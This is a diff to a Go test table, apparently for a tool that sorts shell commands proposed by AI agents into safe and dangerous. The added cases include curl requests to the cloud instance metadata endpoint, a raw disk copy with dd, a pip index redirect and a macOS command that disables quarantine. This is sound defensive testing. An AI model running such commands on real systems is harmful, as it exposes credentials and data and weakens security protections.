@@ -173,5 +173,18 @@ func TestFamilyAgentsSuites(t *testing.T) {
 		{"fd -e go -X wc -l", VerdictSafe, ""},
 		{"go test -exec 'sh -c id' ./...", VerdictDangerous, "option-runs-program"},
 		{"go test -run TestX ./...", VerdictSafe, ""},
+		// package indexes, instance metadata, raw disk copies, macOS security switches
+		{"pip install --extra-index-url https://pkgs.example/simple app", VerdictDangerous, "registry-redirect"},
+		{"pip install -i http://pkgs.example/simple app", VerdictDangerous, "registry-redirect"},
+		{"pip install --index-url https://pypi.org/simple requests", VerdictSafe, ""},
+		{"curl http://169.254.169.254/latest/user-data", VerdictDangerous, "read-credentials"},
+		{"curl http://[fd00:ec2::254]/latest/meta-data/", VerdictDangerous, ""},
+		{"curl http://169.254.1.1/status", VerdictSafe, ""},
+		{"dd if=/dev/sda of=/tmp/disk.img", VerdictDangerous, "read-credentials"},
+		{"dd if=/dev/sda of=/dev/null bs=1M count=1", VerdictSafe, ""},
+		{"dd if=/dev/zero of=test.img bs=1M count=10", VerdictSafe, ""},
+		{"defaults write com.apple.LaunchServices LSQuarantine -bool false", VerdictDangerous, "security-disable"},
+		{"defaults read com.apple.LaunchServices LSQuarantine", VerdictSafe, ""},
+		{"defaults write com.apple.dock autohide -bool true", VerdictSafe, ""},
 	})
 }
